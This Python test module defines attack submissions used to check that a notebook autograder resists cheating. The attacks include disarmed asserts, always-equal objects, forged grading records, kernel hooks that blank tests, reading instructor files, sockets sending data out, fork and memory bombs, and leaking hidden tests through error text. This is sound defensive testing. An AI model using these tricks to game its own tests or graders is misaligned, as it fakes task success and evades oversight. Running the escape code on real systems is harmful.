"""Submissions written to cheat or to break the grader, each with what it must get.

Most keep every exercise correct except the one they attack, so the expected score also
proves that the honest part of the same notebook is still graded. Plain nbgrader 0.9 gives
several of these full marks (see docs/grading.md); `course grade` must not.
"""
from __future__ import annotations

from . import TOTAL, Case, Context, dumps, with_answers

WRONG_LOG_SOFTMAX = '''def log_softmax(z):
    z = np.asarray(z, dtype=float)
    return z - np.max(z, axis=-1, keepdims=True)      # forgets the log-sum-exp term
'''


def _attack(setup: str = "", log_softmax: str = WRONG_LOG_SOFTMAX, prepend: dict[str, str] | None = None, **answers: str):
    """Build: the solution with ``setup`` run first (in the relu cell), code put in front of
    other answer cells (``prepend``) and some answers replaced."""
    def build(ctx: Context) -> bytes:
        fill = lambda code: code.replace("@COURSE@", str(ctx.course)).replace("@REPO@", str(ctx.repo)).replace("@PORT@", str(ctx.port))
        replace = {"debug_log_softmax": fill(log_softmax)} if log_softmax else {}
        replace.update({k: fill(v) for k, v in answers.items()})
        before = {"relu": fill(setup)} if setup else {}
        before.update({k: fill(v) for k, v in (prepend or {}).items()})
        return dumps(with_answers(ctx.solution, replace=replace, prepend=before))
    return build


#: Keeps the code of every cell the kernel is given (test cells as the grader runs them).
KEEP_CELLS = (
    "_kept = []\n"
    "get_ipython().events.register('pre_run_cell', lambda info: _kept.append(info.raw_cell))\n")

#: The source of the notebook cell that called the learner's function, from its frame.
CALLER_SOURCE = (
    "import sys, linecache\n"
    "def _calling_cell(hidden_part=True):\n"
    "    frame = sys._getframe(1)\n"
    "    while frame is not None and frame.f_code.co_name != '<module>':\n"
    "        frame = frame.f_back\n"
    "    text = ''.join(linecache.getlines(frame.f_code.co_filename)) if frame is not None else ''\n"
    "    return text[text.find('hidden'):] if hidden_part else text   # from the hidden tests on\n")

CORRECT_RELU = (
    "def relu(z):\n    return np.maximum(z, 0.0)\n\n"
    "def relu_grad(z):\n    return (np.asarray(z) > 0).astype(float)\n")


def _wrong_everything(ctx: Context) -> bytes:
    return dumps(with_answers(ctx.solution, replace={
        "relu": "def relu(z):\n    return np.abs(z)\n\ndef relu_grad(z):\n    return np.ones_like(z)\n",
        "sigmoid": "def sigmoid(z):\n    return 1.0 / (1.0 + np.exp(z))\n\ndef sigmoid_grad(z):\n    return sigmoid(z)\n",
        "tanh": "def tanh(z):\n    return np.sinh(z)\n\ndef tanh_grad(z):\n    return 1.0 - z ** 2\n",
        "softmax": "def softmax(z, axis=-1):\n    e = np.exp(z)\n    return e / e.sum()\n",
        "softmax_jacobian": "def softmax_jacobian(z):\n    s = softmax(z)\n    return np.diag(s)\n",
        "checkpoint_a_layer": "def checkpoint_a_layer(X, W, b, activation):\n    return X @ W\n",
        "checkpoint_a_policy": "def checkpoint_a_policy(state_features, W, b):\n    return state_features @ W + b\n",
        "checkpoint_a_greedy_action": "def checkpoint_a_greedy_action(q_values):\n    return np.argmin(q_values, axis=-1)\n",
        "debug_log_softmax": WRONG_LOG_SOFTMAX,
    }))


def _stub(ctx: Context) -> bytes:
    return dumps(ctx.student)


def _partial(ctx: Context) -> bytes:
    later = ["softmax", "softmax_jacobian", "checkpoint_a_layer", "checkpoint_a_policy",
             "checkpoint_a_greedy_action", "debug_log_softmax"]
    return dumps(with_answers(ctx.solution, stub=later, student=ctx.student))


CASES = [
    # -- honest submissions graded in the same batch ------------------------------------------
    Case("honest_solution", lambda ctx: dumps(ctx.solution), TOTAL, "graded", "graded", "the solutions notebook"),
    Case("honest_stub", _stub, 0, "graded", "graded", "the untouched student notebook"),
    Case("honest_wrong", _wrong_everything, 0, "graded", "graded", "a realistic wrong answer in every exercise"),
    Case("honest_partial", _partial, 7, "graded", "graded", "relu, sigmoid, tanh right; the rest not started"),
    Case("honest_list_return", _attack(log_softmax="", checkpoint_a_greedy_action=(
        "def checkpoint_a_greedy_action(q_values):\n    return np.argmax(q_values, axis=-1).tolist()\n")),
        TOTAL, "graded", "graded", "returns Python ints and lists instead of arrays: still right"),
    Case("honest_warning", _attack(setup=(
        "import sys, warnings\nwarnings.warn('numpy is about to change this API (only a warning)')\n"
        "print('note: this goes to stderr', file=sys.stderr)\n"), log_softmax=""),
        TOTAL, "graded", "graded", "a correct answer that prints a warning and writes to stderr"),

    # -- disarming the asserts -------------------------------------------------------------------
    Case("attack_numpy_testing_noop", _attack(setup=(
        "import numpy as np, numpy.testing\n"
        "numpy.testing.assert_allclose = lambda *a, **k: None\n"
        "numpy.testing.assert_array_equal = lambda *a, **k: None\n"
        "np.allclose = lambda *a, **k: True\n"
        "np.array_equal = lambda *a, **k: True\n"
        "np.isclose = lambda a, b, *x, **k: np.ones(np.broadcast(np.asarray(a), np.asarray(b)).shape, dtype=bool)\n")),
        TOTAL - 2, "graded", "graded", "assert_allclose and friends replaced by no-ops; log_softmax wrong"),
    Case("attack_check_disarmed", _attack(setup=(
        "from course_lib import check\n"
        "for _n in ('close', 'equal', 'shape', 'finite', 'dtype_kind', 'sums_to_one', 'in_range', 'is_true'):\n"
        "    setattr(check, _n, lambda *a, **k: (a[0] if a else None))\n"
        "check._fail = lambda *a, **k: None\n")),
        0, "graded", "graded", "every course_lib.check function replaced by a no-op"),
    Case("attack_check_swaps_expected", _attack(setup=(
        "from course_lib import check\n"
        "_close, _equal = check.close, check.equal\n"
        "check.close = lambda actual, expected, *a, **k: _close(expected, expected, *a, **k)\n"
        "check.equal = lambda actual, expected, *a, **k: _equal(expected, expected, *a, **k)\n")),
        0, "graded", "graded", "check.close/equal compare the expected value with itself"),
    Case("attack_recorder_disabled", _attack(setup=(
        "import builtins\nfrom course_lib import check\ncheck._recorder = None\n"
        "class _Quiet:\n"
        "    def begin(self): pass\n    def done(self): pass\n    def section(self, name): pass\n"
        "    def cond(self, value, env, src=''): return value\n"
        "builtins.__grading__ = _Quiet()\n")),
        0, "graded", "graded", "the grading harness switched off from inside the kernel"),
    Case("attack_forged_records", _attack(log_softmax=(
        "import secrets\nfrom IPython.display import publish_display_data\n"
        "def log_softmax(z):\n"
        "    for kind in ('begin', 'close', 'done'):\n"
        "        publish_display_data({'application/vnd.course-grading.record+json':\n"
        "            {'token': secrets.token_hex(16), 'seq': 10**6, 'kind': kind, 'actual': {'t': 'float', 'v': 0.0}}})\n"
        "    z = np.asarray(z, dtype=float)\n"
        "    return z - np.max(z, axis=-1, keepdims=True)\n")),
        TOTAL - 2, "graded", "graded", "publishes fake grading records with a guessed token"),

    # -- objects that compare equal to anything ------------------------------------------------------
    Case("attack_always_equal", _attack(log_softmax=(
        "class _Anything:\n"
        "    def __eq__(self, other): return True\n"
        "    def __ne__(self, other): return False\n"
        "    def __bool__(self): return True\n"
        "    def __array__(self, dtype=None, copy=None): return np.zeros(0)\n"
        "def log_softmax(z):\n    return _Anything()\n")),
        TOTAL - 2, "graded", "graded", "returns an object whose == is always true"),
    Case("attack_array_function", _attack(log_softmax=(
        "class _Duck:\n"
        "    shape = (1,)\n"
        "    def __array_function__(self, func, types, args, kwargs): return True\n"
        "    def __array_ufunc__(self, ufunc, method, *inputs, **kwargs): return True\n"
        "    def __eq__(self, other): return True\n"
        "def log_softmax(z):\n    return _Duck()\n")),
        TOTAL - 2, "graded", "graded", "returns a duck array whose __array_function__ says True to everything"),
    Case("attack_ndarray_subclass", _attack(log_softmax=(
        "class _Liar(np.ndarray):\n"
        "    def __eq__(self, other): return np.ones(np.shape(self), dtype=bool)\n"
        "    def __array_function__(self, func, types, args, kwargs): return True\n"
        "    def tolist(self): return [0.0]\n"
        "def log_softmax(z):\n    return np.zeros(np.shape(z)).view(_Liar)\n")),
        TOTAL - 2, "graded", "graded", "an ndarray subclass with a lying __eq__, __array_function__ and tolist"),

    # -- taking over the kernel -------------------------------------------------------------------
    Case("attack_input_transformer", _attack(setup=(
        "def _blank(lines):\n"
        "    return ['pass\\n'] if any('check.' in line or '__grading__' in line for line in lines) else lines\n"
        "get_ipython().input_transformers_post.append(_blank)\n")),
        0, "graded", "graded", "an input transformer that blanks every later test cell"),
    Case("attack_custom_exception_handler", _attack(setup=(
        "get_ipython().set_custom_exc((BaseException,), lambda shell, etype, evalue, tb, tb_offset=None: None)\n"),
        log_softmax="def log_softmax(z):\n    raise NotImplementedError()\n"),
        TOTAL - 2, "graded", "graded", "a custom exception handler that swallows every error"),
    Case("attack_sys_exit", _attack(log_softmax="import sys\ndef log_softmax(z):\n    sys.exit(0)\n"),
         TOTAL - 2, "graded", "graded", "sys.exit inside a graded function"),
    Case("attack_os_exit", _attack(log_softmax="", checkpoint_a_policy=(
        "import os\ndef checkpoint_a_policy(state_features, W, b):\n    os._exit(0)\n")),
        15, "crashed", "exited", "os._exit inside a graded function (kills the kernel)"),

    # -- reaching outside --------------------------------------------------------------------------
    Case("attack_reads_instructor_files", _attack(log_softmax=(
        "import os\n"
        "_found = ['../source/03_activations/03_activations.ipynb', '../../source/03_activations/03_activations.ipynb',\n"
        "    '../../../source/03_activations/03_activations.ipynb', '../../../../source/03_activations/03_activations.ipynb',\n"
        "    '../gradebook.db', '../../gradebook.db', '../../../gradebook.db', '../../../../gradebook.db',\n"
        "    '@COURSE@/gradebook.db', '@COURSE@/source/03_activations/03_activations.ipynb',\n"
        "    '@REPO@/solutions/03_activations.ipynb']\n"
        "for _root, _dirs, _files in os.walk('/'):   # /usr is the system's own: course grade refuses a course there\n"
        "    _dirs[:] = [d for d in _dirs if _root != '/' or d not in ('proc', 'sys', 'dev', 'usr')]\n"
        "    _found += [os.path.join(_root, f) for f in _files if f.endswith(('.db', '.ipynb')) or f.startswith('reference-')]\n"
        "_leak = False\n"
        "for _p in _found:\n"
        "    try:\n"
        "        with open(_p, 'rb') as _f:\n"
        "            _data = _f.read(2_000_000)\n"
        "    except OSError:\n"
        "        continue\n"
        "    if b'default_rng(305)' in _data or (not _p.endswith('.ipynb') and b'03_activations' in _data):\n"
        "        _leak = True   # the hidden tests, the gradebook of this class or a cached reference run\n"
        "def log_softmax(z):\n"
        "    z = np.asarray(z, dtype=float)\n"
        "    if _leak:   # would only be right if it could read the instructor's files\n"
        "        s = z - np.max(z, axis=-1, keepdims=True)\n"
        "        return s - np.log(np.sum(np.exp(s), axis=-1, keepdims=True))\n"
        "    return z - np.max(z, axis=-1, keepdims=True)\n")),
        TOTAL - 2, "graded", "graded", "looks for the source notebook, gradebook and reference cache, by relative "
        "and absolute path and by walking the file system (all but /usr, /proc, /sys, /dev)"),
    Case("attack_writes_outside", _attack(setup=(
        "for _p in ['../escape.txt', '../../escape.txt', '../../../escape.txt', '../../../../escape.txt', '/escape.txt',\n"
        "           '@COURSE@/escape.txt', '@COURSE@/source/escape.txt', '@REPO@/escape.txt', '/tmp/escape.txt']:\n"
        "    try:\n"
        "        with open(_p, 'w') as _f:\n"
        "            _f.write('escaped')\n"
        "    except OSError:\n"
        "        pass\n"), log_softmax=""),
        TOTAL, "graded", "graded", "writes files outside its folder (correct answers otherwise)",
        host_paths=["@COURSE@/escape.txt", "@COURSE@/source/escape.txt", "@REPO@/escape.txt", "@COURSE@/submitted/escape.txt",
                    "/escape.txt"]),
    Case("attack_network", _attack(setup=(
        "import socket, urllib.request\n"
        "for _addr in [('127.0.0.1', @PORT@), ('1.1.1.1', 80), ('8.8.8.8', 53)]:\n"
        "    try:\n"
        "        socket.create_connection(_addr, timeout=1).sendall(b'leak')\n"
        "        print('CONNECTED', _addr)\n"
        "    except OSError as _e:\n"
        "        print('blocked', _addr, _e)\n"
        "try:\n"
        "    urllib.request.urlopen('http://example.com', timeout=1)\n"
        "    print('CONNECTED http')\n"
        "except Exception as _e:\n"
        "    print('blocked http', _e)\n"), log_softmax=""),
        TOTAL, "graded", "graded", "opens network connections (to the grader's own machine too)"),

    # -- resource exhaustion -------------------------------------------------------------------------
    Case("attack_infinite_loop", _attack(log_softmax="def log_softmax(z):\n    while True:\n        pass\n"),
         TOTAL - 2, "timeout", "interrupted", "an infinite loop in a graded function"),
    Case("attack_sigint_ignored", _attack(log_softmax="", checkpoint_a_policy=(
        "import signal\ndef checkpoint_a_policy(state_features, W, b):\n"
        "    signal.signal(signal.SIGINT, signal.SIG_IGN)\n    while True:\n        pass\n")),
        15, "timeout", "ignored the interrupt", "a loop that ignores SIGINT"),
    Case("attack_memory_bomb", _attack(log_softmax="", checkpoint_a_greedy_action=(
        "def checkpoint_a_greedy_action(q_values):\n"
        "    hog = []\n    while True:\n        hog.append(bytearray(50_000_000))\n")),
        TOTAL - 1, "resource limit", "memory", "allocates memory until it runs out"),
    Case("attack_fork_bomb", _attack(log_softmax="", checkpoint_a_policy=(
        "import os\ndef checkpoint_a_policy(state_features, W, b):\n    while True:\n        try:\n"
        "            os.fork()\n        except OSError:\n            pass\n")),
        15, "resource limit", "processes", "a fork bomb"),
    # -- getting the hidden tests back through the feedback --------------------------------------
    Case("attack_prints_kept_test_cells", _attack(setup=KEEP_CELLS, log_softmax="", prepend={
        "debug_log_softmax": "print('\\n'.join(_kept))\n"}),
        TOTAL, "graded", "graded", "a pre_run_cell hook keeps every cell the kernel runs (the test cells as graded, "
        "hidden tests included); a later answer cell prints them"),
    Case("attack_hidden_error_quotes_source", _attack(setup=CALLER_SOURCE, log_softmax="", relu=CORRECT_RELU.replace(
        "def relu(z):\n", "def relu(z):\n    if np.ndim(z) == 3:   # the hidden input\n"
        "        raise ValueError(' '.join(_calling_cell().split()))\n")),
        TOTAL - 2, "graded", "graded", "relu raises ValueError(<source of the test cell that called it>) on the hidden "
        "input: check.call turns it into CheckFailed with that text"),
    Case("attack_hidden_error_named_by_source", _attack(setup=CALLER_SOURCE, log_softmax="", relu=CORRECT_RELU.replace(
        "def relu(z):\n", "def relu(z):\n    if np.ndim(z) == 3:\n        _text = ' '.join(_calling_cell().split())\n"
        "        raise type(_text[:200], (BaseException,), {})(_text)\n")),
        TOTAL - 2, "graded", "graded", "on the hidden input relu raises a BaseException subclass (check.call lets it "
        "through) whose class name and message are the test cell's source"),
    Case("attack_visible_error_quotes_hidden_tests", _attack(setup=KEEP_CELLS + CALLER_SOURCE, log_softmax="", prepend={
        "tanh": "_quoted = []\n"
                "def _quote_hidden_tests():\n"
                "    if _quoted or '__grading__' not in _calling_cell(hidden_part=False):\n"
                "        return\n"
                "    _quoted.append(1)\n"
                "    _seed = 'default_rng(' + str(301) + ')'   # relu's hidden tests (not spelled out here)\n"
                "    _hidden = ' '.join(c for c in _kept if _seed in c)\n"
                "    raise ValueError(' '.join(_hidden[_hidden.find(_seed):].split())[:280])\n"},
        tanh="def tanh(z):\n    _quote_hidden_tests()\n    return np.tanh(np.asarray(z, dtype=float))\n\n"
             "def tanh_grad(z):\n    t = tanh(z)\n    return 1.0 - t * t\n"),
        TOTAL - 2, "graded", "graded", "tanh raises, in a visible test, a ValueError quoting relu's hidden tests kept by "
        "a pre_run_cell hook"),
    Case("attack_huge_print", _attack(setup="print('x' * 20_000_000)\n", log_softmax=""),
         TOTAL, "graded", "output truncated", "prints 20 MB on one line (correct answers otherwise)"),
]


